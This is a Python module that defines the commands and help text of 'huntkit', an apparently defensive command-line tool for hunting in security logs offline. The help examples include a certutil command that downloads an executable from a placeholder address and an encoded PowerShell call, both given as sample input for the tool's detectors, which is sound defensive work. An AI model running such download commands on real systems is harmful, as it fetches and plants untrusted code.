"""The commands, their options and their help.

Only signatures and help live here, so that ``--help`` and mistakes are answered at once; the work
is in ``questions``, ``opening`` and ``doctor``, which load the data libraries.
"""

import importlib
from collections.abc import Callable
from pathlib import Path
from typing import Annotated, Any

import typer

from huntkit.cli import analysis_commands
from huntkit.cli.chart_commands import Charts
from huntkit.cli.frame import Command, Commands, refuse_network
from huntkit.cli.options import General, Paths, Reading, Span, Writing, shared
from huntkit.cli.query_commands import LIBRARY_NAME, OwnQueries, Values, queries
from huntkit.core.errors import UsageError

app = typer.Typer(
    name="huntkit",
    cls=Commands,
    add_completion=False,
    rich_markup_mode="rich",
    pretty_exceptions_enable=False,
    context_settings={"help_option_names": ["--help", "-h"]},
    help="""Investigate and hunt in security logs, offline, on real files.

\b
  huntkit open evidence/                     a first picture, and a report
  huntkit search 203.0.113.45 evidence/      everything that mentions a value

stdout carries data only: a table on a terminal, NDJSON into a pipe. Exit codes: 0 done,
1 failed, 2 wrong use, 3 done in part, 130 interrupted.""",
)


def _help(first: str, second: str, text: str) -> str:
    """Two examples first, then what the command does."""
    return f"\b\n  {first}\n  {second}\n\n{text}".replace("[", "\\[")


def _command(
    name: str, first: str, second: str, text: str
) -> Callable[[Callable[..., None]], Callable[..., None]]:
    """Register a function; its docstring is what the list of commands says."""

    def register(function: Callable[..., None]) -> Callable[..., None]:
        short = (function.__doc__ or "").splitlines()[0]
        told = _help(first, second, text)
        app.command(name, cls=Command, short_help=short, help=told)(shared(function))
        return function

    return register


def _work(module: str, general: General) -> Any:
    """The module that does the work; it loads the data libraries, which takes a moment."""
    if general.offline:
        refuse_network()
    return importlib.import_module(f"huntkit.cli.{module}")


@app.callback(invoke_without_command=False)
def _root(
    *,
    version: Annotated[  # answered before typer is loaded; here for --help
        bool, typer.Option("--version", "-V", help="Say the version and stop.")
    ] = False,
) -> None:
    pass


@_command(
    "open",
    "huntkit open evidence/",
    "huntkit open case.zip logs/*.evtx -o case.html",
    "Read files, folders and archives of any log format, say what is in them, and write one"
    " offline HTML report (huntkit-report.html, or the next free name, unless -o says"
    " otherwise). Piped, stdout is one JSON object with the summary.",
)
def open_(
    paths: Paths,
    reading: Reading,
    output: Annotated[
        Path | None, typer.Option("--output", "-o", metavar="FILE", help="The report's name.")
    ] = None,
    title: Annotated[str | None, typer.Option(metavar="TEXT", help="The report's title.")] = None,
    no_report: Annotated[
        bool, typer.Option("--no-report", help="Only say; write nothing.")
    ] = False,
    force: Annotated[bool, typer.Option("--force", help="Replace the file if it exists.")] = False,
    general: General = General(),  # noqa: B008  a frozen value
) -> None:
    """Read evidence, say what is in it, and write a report."""
    if no_report and (output is not None or title is not None or force):
        raise UsageError(
            "--no-report writes nothing, so -o, --title and --force mean nothing with it",
            hint="leave out --no-report to get the report",
        )
    _work("opening", general).open_(
        paths, reading, general, output=output, title=title, write=not no_report, force=force
    )


@_command(
    "report",
    "huntkit report evidence/",
    "huntkit report evidence/ -o case.html --title 'Case 17'",
    "As open, without the summary.",
)
def report(
    paths: Paths,
    reading: Reading,
    output: Annotated[
        Path | None, typer.Option("--output", "-o", metavar="FILE", help="The report's name.")
    ] = None,
    title: Annotated[str | None, typer.Option(metavar="TEXT", help="The report's title.")] = None,
    force: Annotated[bool, typer.Option("--force", help="Replace the file if it exists.")] = False,
    general: General = General(),  # noqa: B008
) -> None:
    """Write the report, nothing else."""
    _work("opening", general).report(
        paths, reading, general, output=output, title=title, force=force
    )


@_command(
    "tables",
    "huntkit tables evidence/",
    "huntkit tables evidence/ --table DeviceProcessEvents",
    "One row per table: name, rows, first and last time, hosts. With --table, the columns of"
    " that table and their types; with --files, what was read of each file.",
)
def tables(
    paths: Paths,
    reading: Reading,
    writing: Writing,
    table: Annotated[
        str | None, typer.Option("--table", "-t", metavar="TABLE", help="Show its columns.")
    ] = None,
    files: Annotated[bool, typer.Option("--files", help="Show the files instead.")] = False,
    general: General = General(),  # noqa: B008
) -> None:
    """Which tables there are, and what is in them."""
    _work("questions", general).tables(paths, reading, writing, general, table=table, files=files)


@_command(
    "search",
    "huntkit search 203.0.113.45 evidence/",
    "huntkit search @indicators.txt evidence/ -o hits.csv",
    "Find a text in any case, anywhere inside any column. @FILE reads one value a line, - reads"
    " them from stdin.",
)
def search(
    value: Annotated[
        str,
        typer.Argument(
            metavar="VALUE",
            help="A text or number; @FILE for one a line, - for those on stdin.",
            show_default=False,
        ),
    ],
    paths: Paths,
    reading: Reading,
    span: Span,
    writing: Writing,
    general: General,
) -> None:
    """Every table, file and record that holds a value."""
    _work("questions", general).search(value, paths, reading, span, writing, general)


@_command(
    "query",
    "huntkit query 'DeviceProcessEvents | where FileName =~ \"whoami.exe\"' evidence/",
    "huntkit query --sql 'SELECT * FROM Syslog LIMIT 9' evidence/",
    "KQL first, then the paths; with --sql one reading statement in DuckDB's dialect, and only"
    " paths. Either sees the evidence's tables, no file and no network. @FILE reads the text from a"
    " file. In the place of KQL may stand the name of a library query (huntkit queries), with its"
    " values by --set.",
)
def query(
    words: Annotated[
        list[str],
        typer.Argument(
            metavar="KQL PATHS...",
            help="The query, or @FILE, or Family.name; then files, folders, globs or archives. With"
            " --sql: paths.",
            show_default=False,
        ),
    ],
    reading: Reading,
    writing: Writing,
    sql: Annotated[
        str | None, typer.Option("--sql", metavar="TEXT", help="An SQL statement, or @FILE.")
    ] = None,
    now: Annotated[
        str | None,
        typer.Option(
            "--now", metavar="TIME", help="The instant of KQL's now() and ago(); the last event's."
        ),
    ] = None,
    geo: Annotated[
        list[str] | None,
        typer.Option(
            "--geo",
            metavar="FILE",
            help="A MaxMind database for KQL's geo_info_from_ip_address; may be repeated."
            " The word countries means the shipped ranges alone.",
        ),
    ] = None,
    external: Annotated[
        list[str] | None,
        typer.Option(
            "--external",
            metavar="URI=FILE",
            help="The file that KQL's externaldata reads in the place of URI; may be repeated.",
        ),
    ] = None,
    values: Values = None,
    own: OwnQueries = None,
    general: General = General(),  # noqa: B008
) -> None:
    """Ask in KQL, SQL, or by a library query."""
    if sql is None and words[1:] and LIBRARY_NAME.fullmatch(words[0]):
        if now or geo or external:
            raise UsageError("--now, --geo and --external are for queries of your own")
        _work("library", general).run_query(
            words[0], words[1:], reading, Span(), writing, general,
            values=values or [], own=own or [],
        )  # fmt: skip
        return
    if values or own:
        raise UsageError(
            "--set and --queries are for library queries",
            hint="huntkit query Family.name evidence/ --set name=value",
        )
    extras = {"geo": geo or [], "external": external or []}
    _work("questions", general).query(words, reading, writing, general, sql=sql, now=now, **extras)


_IocTypes = Annotated[
    list[str] | None,
    typer.Option("--type", metavar="TYPE", help="Only this type or group; may be repeated."),
]
_Defang = Annotated[
    bool, typer.Option("--defang", help="Write indicators so that nobody can click them.")
]


@_command(
    "iocs",
    "huntkit iocs evidence/",
    "cat mail.txt | huntkit iocs - --type url --type ipv4",
    "Every indicator with its counts and the first place where it stands. Types: ipv4 ipv6 cidr dns"
    " url email file hashes (md5_hash ...), cve attack_technique asn and wallets (btc_wallet ...);"
    " on demand imphash ja3_hash ja4_hash mac_address guid mutex named_pipe windows_path linux_path"
    " registry_key user_agent. Groups: default all file_hash path wallet. - reads any text from"
    " stdin.",
)
def iocs(
    paths: Paths,
    reading: Reading,
    writing: Writing,
    types: _IocTypes = None,
    defang: _Defang = False,
    general: General = General(),  # noqa: B008
) -> None:
    """Indicators: addresses, names, URLs, e-mail addresses, hashes."""
    _work("questions", general).iocs(paths, reading, writing, general, types=types, defang=defang)


@_command(
    "decode",
    "huntkit decode evidence/",
    "huntkit decode --text 'powershell -enc ZABpAHIA'",
    "Decode base64, hexadecimal, escapes, compressed text and archives inside command lines,"
    " scripts, tasks and services."
    " - reads text from stdin, one piece a line.",
)
def decode(
    reading: Reading,
    writing: Writing,
    paths: Annotated[
        list[str] | None,
        typer.Argument(
            metavar="PATHS",
            help="Files, folders, globs or archives; - reads text from stdin.",
            show_default=False,
        ),
    ] = None,
    text: Annotated[
        list[str] | None, typer.Option("--text", metavar="TEXT", help="Decode this text.")
    ] = None,
    xor: Annotated[
        bool, typer.Option("--xor", help="Also try masks of one byte on what is not readable.")
    ] = False,
    general: General = General(),  # noqa: B008
) -> None:
    """Encoded text, decoded layer by layer."""
    _work("questions", general).decode(paths or [], text or [], reading, writing, general, xor=xor)


@_command(
    "cmdline",
    "huntkit cmdline evidence/ --lowest high",
    "huntkit cmdline --text 'certutil -urlcache -f http://198.51.100.9/a a.exe'",
    "Look for risky command lines of Windows, Linux and macOS, however they are spelt or encoded,"
    " with the technique of MITRE ATT&CK and why it matters. - reads lines from stdin.",
)
def cmdline(
    reading: Reading,
    writing: Writing,
    paths: Annotated[
        list[str] | None,
        typer.Argument(
            metavar="PATHS",
            help="Files, folders, globs or archives; - reads lines from stdin.",
            show_default=False,
        ),
    ] = None,
    text: Annotated[
        list[str] | None, typer.Option("--text", metavar="TEXT", help="Look at this line.")
    ] = None,
    lowest: Annotated[
        str,
        typer.Option(metavar="LEVEL", help="Leave out what is below: low, medium, high, critical."),
    ] = "low",
    rules: Annotated[
        list[Path] | None,
        typer.Option(metavar="FILE", help="Your own rules, instead of the built-in ones."),
    ] = None,
    general: General = General(),  # noqa: B008
) -> None:
    """Risky command lines, with the reason."""
    _work("commandline", general).cmdline(
        paths or [], text or [], reading, writing, general, lowest=lowest, rules=rules or []
    )


@_command(
    "geo",
    "huntkit geo 203.0.113.45 2001:db8::1",
    "huntkit geo evidence/ --geo GeoLite2-City.mmdb -o places.csv",
    "Country and network operator of addresses, offline; with a database of cities also city and"
    " position. @FILE and - give one address a line; evidence gives every public or private address"
    " in it. --update downloads GeoLite2 by the account in your settings; nothing else asks the"
    " network.",
)
def geo(
    reading: Reading,
    writing: Writing,
    words: Annotated[
        list[str] | None,
        typer.Argument(
            metavar="ADDRESSES|PATHS",
            help="Addresses, @FILE or - with one a line; or files, folders, globs, archives.",
            show_default=False,
        ),
    ] = None,
    files: Annotated[
        list[str] | None,
        typer.Option("--geo", metavar="FILE", help="A MaxMind database; may be repeated."),
    ] = None,
    update: Annotated[
        bool, typer.Option("--update", help="Download GeoLite2 first, if there is a newer one.")
    ] = False,
    general: General = General(),  # noqa: B008
) -> None:
    """Where addresses are, and who runs their network."""
    _work("places", general).geo(
        words or [], reading, writing, general, files=files or [], update=update
    )


_Title = Annotated[str | None, typer.Option(metavar="TEXT", help="The heading of the picture.")]


@_command(
    "tree",
    "huntkit tree evidence/ --host ws01.example",
    "huntkit tree evidence/ -o tree.html",
    "Who started what. On a terminal the rarest branches as trees; piped, one row per process;"
    " with -o x.html an interactive picture, with -o x.txt all trees as text.",
)
def tree(
    paths: Paths,
    reading: Reading,
    span: Span,
    writing: Writing,
    host: Annotated[
        str | None, typer.Option(metavar="HOST", help="Only this host; a short name will do.")
    ] = None,
    title: _Title = None,
    general: General = General(),  # noqa: B008
) -> None:
    """Process trees, the rarest branches first."""
    _work("questions", general).tree(paths, reading, span, writing, general, host=host, title=title)


@_command(
    "timeline",
    "huntkit timeline evidence/ --table DeviceLogonEvents --since 2026-03-03T09:00Z",
    "huntkit timeline evidence/ --group-by Host -o timeline.html",
    "The notable events, or all rows of the tables that --table names. With -o x.html an"
    " interactive picture.",
)
def timeline(
    paths: Paths,
    reading: Reading,
    span: Span,
    writing: Writing,
    table: Annotated[
        list[str] | None,
        typer.Option("--table", "-t", metavar="TABLE", help="A table; may be repeated."),
    ] = None,
    group_by: Annotated[
        str | None, typer.Option(metavar="COLUMN", help="One band per value of this column.")
    ] = None,
    title: _Title = None,
    general: General = General(),  # noqa: B008
) -> None:
    """Events of several tables in the order of time."""
    _work("questions", general).timeline(
        paths, reading, span, writing, general, names=table or [], group_by=group_by, title=title
    )


analysis_commands.add_to(_command, _work)


app.add_typer(
    queries,
    name="queries",
    short_help="The library of queries: list, search, show, run.",
    help=_help(
        "huntkit queries search --table SecurityEvent",
        "huntkit queries run WindowsSecurity.list_host_logons evidence/ --set host_name=ws01",
        "Named questions with parameters, for Windows, Linux, Defender, Azure, Office ... Without a"
        " command, all of them are listed.",
    ),
)


_charts = typer.Typer(
    cls=Charts,
    add_completion=False,
    rich_markup_mode="rich",
    subcommand_metavar="KIND PATHS...",
    context_settings={"help_option_names": ["--help", "-h"]},
)


@_charts.callback(invoke_without_command=True)
def _kinds(context: typer.Context) -> None:
    if context.invoked_subcommand is None:
        _work("drawing", General()).kinds(Writing())


app.add_typer(
    _charts,
    name="chart",
    short_help="Any chart, of a table or of the answer to a query.",
    help=_help(
        "huntkit chart                              the kinds there are",
        "huntkit chart matrix evidence/ -t DeviceLogonEvents --x AccountName --y DeviceName",
        "Draw a table of evidence, the answer to a query (--query, or piped from huntkit query"
        " into -), or any file of rows, as one offline page. huntkit chart KIND --help has the"
        " options of a kind.",
    ),
)


@_command(
    "ti",
    "huntkit ti 198.51.100.7 'evil[.]example[.]com' --providers VirusTotal,OTX",
    "cat values.txt | huntkit ti - --feeds bad.csv -o known.html",
    "Ask providers of threat intelligence about addresses, names, URLs and hashes: a row for each"
    " value and provider, always. Private and internal values never leave. Without --providers"
    " those are asked that the settings enable; no other is ever contacted. Exit code 3 if a"
    " provider failed.",
)
def ti(
    values: Annotated[
        list[str],
        typer.Argument(
            metavar="VALUES", help="Indicators; - reads them from stdin.", show_default=False
        ),
    ],
    writing: Writing,
    providers: Annotated[
        list[str] | None,
        typer.Option("--providers", "-p", metavar="NAMES", help="Ask these, with commas between."),
    ] = None,
    feeds: Annotated[
        list[Path] | None,
        typer.Option("--feeds", metavar="FILE", help="Also look into this file of indicators."),
    ] = None,
    ioc_type: Annotated[
        str | None, typer.Option("--type", metavar="TYPE", help="The type of all values.")
    ] = None,
    subtype: Annotated[
        str | None, typer.Option("--subtype", metavar="NAME", help="A sub-query: passivedns ...")
    ] = None,
    tlp: Annotated[
        str | None,
        typer.Option(metavar="LEVEL", help="How far the values may be told: clear ... red."),
    ] = None,
    budget: Annotated[
        int | None, typer.Option(min=0, metavar="N", help="At most N questions to each provider.")
    ] = None,
    dry_run: Annotated[
        bool, typer.Option("--dry-run", help="Ask nobody; say what would be asked of whom.")
    ] = False,
    refresh: Annotated[bool, typer.Option("--refresh", help="Ask anew, whatever is kept.")] = False,
    general: General = General(),  # noqa: B008
) -> None:
    """What others know about indicators."""
    _work("intel", general).ti(
        values, writing, general, providers=providers, feeds=feeds or [], ioc_type=ioc_type,
        subtype=subtype, tlp=tlp, budget=budget, dry_run=dry_run, refresh=refresh,
    )  # fmt: skip


@_command(
    "providers",
    "huntkit providers",
    "huntkit providers --types",
    "The providers of threat intelligence: which are loaded, what they take, whether they need a"
    " key, their terms.",
)
def providers(
    writing: Writing,
    types: Annotated[
        bool, typer.Option("--types", help="A row for each type of indicator and sub-query.")
    ] = False,
    general: General = General(),  # noqa: B008
) -> None:
    """Who can be asked about indicators."""
    _work("intel", general).providers(writing, general, types=types)


@_command(
    "doctor",
    "huntkit doctor",
    "huntkit doctor | jq .",
    "Check this installation and say what to do about what is not well.",
)
def doctor(writing: Writing, general: General) -> None:
    """Versions, folders and what is missing."""
    _work("doctor", general).doctor(writing)


@_command(
    "demo",
    "huntkit demo",
    "huntkit demo --real Security-Datasets/ --force",
    "Write the log files of an invented intrusion (about 3,000 events on four machines, all"
    " synthetic), open them, and write huntkit-demo.html here. --real opens a checkout of the"
    " Security-Datasets project instead.",
)
def demo(
    reading: Reading,
    real: Annotated[
        Path | None, typer.Option(metavar="FOLDER", help="Open this Security-Datasets checkout.")
    ] = None,
    folder: Annotated[
        Path | None, typer.Option(metavar="FOLDER", help="Keep the log files here.")
    ] = None,
    seed: Annotated[int, typer.Option(metavar="N", help="Another seed gives another morning.")] = 1,
    force: Annotated[
        bool, typer.Option("--force", help="Replace huntkit-demo.html if it exists.")
    ] = False,
    general: General = General(),  # noqa: B008
) -> None:
    """Make a synthetic intrusion, open it, write huntkit-demo.html."""
    _work("opening", general).demo(
        reading, general, real=real, folder=folder, seed=seed, force=force
    )
